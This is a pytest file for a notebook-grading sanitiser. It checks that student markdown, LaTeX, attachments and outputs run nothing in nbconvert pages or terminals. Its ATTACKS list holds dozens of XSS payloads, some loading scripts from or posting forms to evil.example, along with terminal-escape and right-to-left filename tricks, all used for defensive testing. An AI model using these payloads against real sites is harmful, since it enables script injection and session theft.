"""What a student wrote does nothing at the grader's: not in a page that nbconvert makes, and not in a terminal."""

import base64
import io
import time
from html.parser import HTMLParser

import nbformat
import pytest
from nbconvert import HTMLExporter
from PIL import Image

from instructor.grading.submission.harmless import (
    MAX_ATTACHED,
    MAX_CELL,
    for_terminal,
    harmless_attachments,
    harmless_latex,
    harmless_markdown,
    is_picture,
    shortened,
    with_policy,
)
from instructor.grading.submission.outputs import MAX_IMAGE, MAX_IMAGES, Outputs, clean_outputs, output_size

ATTACKS = [
    "<svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>here</a>",
    "[here](javascript:alert(1))",
    "[here](JaVaScRiPt:alert(1))",
    "[here](java\tscript:alert(1))",
    "[here](&#106;avascript:alert(1))",
    "[here](&#x6A;avascript&colon;alert(1))",
    "[here](data:text/html;base64,PHNjcmlwdD4=)",
    "[here][x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](http://evil.example/x.png)",
    '![x](x" onerror="alert(1))',
    '![x](x "t\\" onerror=\\"alert(1)")',
    "`<svg onload=alert(1)>`",
    "```html\n<svg onload=alert(1)>\n```",
    "    <svg onload=alert(1)>",
    "| a |\n|---|\n| <svg onload=alert(1)> |",
    "> <svg onload=alert(1)>",
    "- <svg\nonload=alert(1)>",
    "$<svg onload=alert(1)>$",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$\\style{background:url(x)}{x} \\cssId{a}{x} \\class{b}{x} \\require{html}$",
    "<!--><svg onload=alert(1)>-->",
    "<![CDATA[<svg onload=alert(1)>]]>",
    "<?xml version='1.0'?><svg onload=alert(1)>",
    "<\x00svg onload=alert(1)>",
    "<<svg onload=alert(1)>>",
    "</div></body><svg onload=alert(1)>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<form action=//evil.example><input name=_xsrf><button>grade</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
]


class _Page(HTMLParser):
    """What a page would run: tags with handlers, scripts, frames and links with a scheme of their own."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attributes):
        bad = tag in ("svg", "iframe", "script", "math", "form", "meta", "base", "input", "style", "object", "embed")
        for name, value in attributes:
            target = (value or "").strip().lower().replace("\t", "")
            bad |= name.startswith("on") or target.startswith(("javascript:", "data:text", "vbscript:", "//evil"))
            bad |= name == "src" and target.startswith("http")
        if bad:
            self.found.append((tag, attributes))


@pytest.fixture(scope="module")
def exporter():
    return HTMLExporter(template_name="basic")


@pytest.mark.parametrize("attack", ATTACKS)
def test_prose_runs_nothing_in_a_page(exporter, attack):
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(harmless_markdown(attack))])
    page, _ = exporter.from_notebook_node(notebook)
    reader = _Page()
    reader.feed(page)
    assert reader.found == [], page
    assert "\\href" not in page and "\\require" not in page


def test_the_attacks_do_something_where_nobody_cleans(exporter):
    """The test above can fail."""
    found = []
    for attack in ATTACKS:
        notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(attack)])
        reader = _Page()
        reader.feed(exporter.from_notebook_node(notebook)[0])
        found.append(bool(reader.found))
    assert sum(found) >= 15


@pytest.mark.parametrize(
    "text",
    [
        "It is $a < b$ and $b > a$.",
        "> a quotation",
        "`x = 1`",
        "[a link](https://pytorch.org)",
        "1 < 2 & 3",
        "**bold**",
    ],
)
def test_honest_prose_stays_as_it_is(text):
    assert harmless_markdown(text) == text


def test_prose_that_nbconvert_would_take_minutes_for_is_cut(exporter):
    began = time.process_time()
    notebook = nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_markdown_cell(harmless_markdown(shortened("[" * 120_000, MAX_CELL)))]
    )
    exporter.from_notebook_node(notebook)
    assert time.process_time() - began < 5


def picture(kind: str = "PNG", width: int = 4) -> str:
    Image.new("1", (width, width)).save(made := io.BytesIO(), kind)
    return base64.b64encode(made.getvalue()).decode()


PNG = picture()


def test_pasted_pictures_are_kept_and_nothing_else():
    given = {
        "image.png": {"image/png": PNG, "text/html": "<svg>"},
        "x.svg": {"image/svg+xml": "<svg onload=alert(1)>"},
        'x" onerror="alert(1)': {"image/png": PNG},
        "bad.png": {"image/png": '" onerror="alert(1)'},
    }
    assert harmless_attachments(given) == {"image.png": {"image/png": PNG}}
    assert harmless_attachments(["x"]) == {}
    assert len(harmless_attachments({f"{n}.png": {"image/png": PNG} for n in range(30)})) == MAX_ATTACHED


def test_a_picture_is_base64_and_latex_has_no_links():
    shown = {"image/png": '" onerror="alert(1)', "text/latex": r"$\href{javascript:alert(1)}{x}$", "text/plain": "x"}
    (output,) = clean_outputs([{"output_type": "display_data", "data": shown}])
    assert output["data"] == {"text/latex": r"$\ href{javascript:alert(1)}{x}$", "text/plain": "x"}
    assert is_picture("image/png", PNG) and not is_picture("image/svg+xml", PNG)
    assert is_picture("image/jpeg", picture("JPEG")) and not is_picture("image/png", picture(width=8000))
    assert harmless_latex(r"\frac{a}{b}") == r"\frac{a}{b}"


def test_what_is_too_much_to_show_is_left_out_and_said():
    outputs = Outputs()
    for size in (MAX_IMAGE, MAX_IMAGE + 4, *[MAX_IMAGE] * 4):
        data = base64.b64encode(base64.b64decode(PNG).ljust(size * 3 // 4, b"\0")).decode()
        outputs.display({"image/png": data, "text/plain": "<Figure>"}, None)
    pictures = [item for item in outputs.items if "image/png" in item.get("data", {})]
    assert len(pictures) == MAX_IMAGES // MAX_IMAGE == 4
    said = "".join(item["text"] for item in outputs.items if item["output_type"] == "stream")
    assert said.count("[a picture of 1.5 MB is left out: one may have 1.5 MB, and those of a cell 6 MB together]") == 2

    kept = clean_outputs(outputs.items, room=2 * MAX_IMAGE + 10_000)
    assert sum("image/png" in item.get("data", {}) for item in kept) == 2
    assert kept[-1]["text"] == "[2 outputs of this cell are left out: a notebook may show 24 MB]\n"
    assert output_size(kept) < 2 * MAX_IMAGE + 10_000
    assert clean_outputs([{"output_type": "stream", "text": "x"}], room=-1)[0]["text"].startswith("[one output of")


def test_a_terminal_is_not_sent_what_it_would_obey():
    assert for_terminal("\x1b[2J\x1b]0;title\x07ok\r\n") == r"\x1b[2J\x1b]0;title\x07ok\r\n"
    assert for_terminal("a\u202egnp.exe") == r"a\u202egnp.exe"
    assert len(for_terminal("x" * 1000)) == 300


def test_a_page_of_feedback_runs_its_own_scripts_only():
    page = '<html><head><script src="https://cdn.example/m.js"></script><script>go()</script></head><body><script>no()</script><script src="https://evil.example/x"></script></body></html>'
    made = with_policy(page)
    policy = made.split('content="')[1].split('"')[0]
    assert "default-src 'none'" in policy and "script-src https://cdn.example 'sha256-" in policy
    assert "'unsafe-inline'" not in policy.split("script-src")[1]
    assert policy.count("sha256-") == 1 and "evil" not in policy
